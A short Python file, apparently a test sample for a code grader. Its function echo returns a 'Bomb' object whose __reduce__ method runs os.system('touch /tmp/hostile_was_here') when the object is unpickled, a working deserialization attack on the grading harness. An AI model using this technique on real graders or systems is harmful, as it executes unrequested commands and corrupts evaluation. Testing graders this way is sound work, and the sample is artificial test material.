# tries: return an object that runs code when it is unpickled; must: incorrect
# before a careless grader: runs a program
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_was_here",)


def echo(x):
    return Bomb()
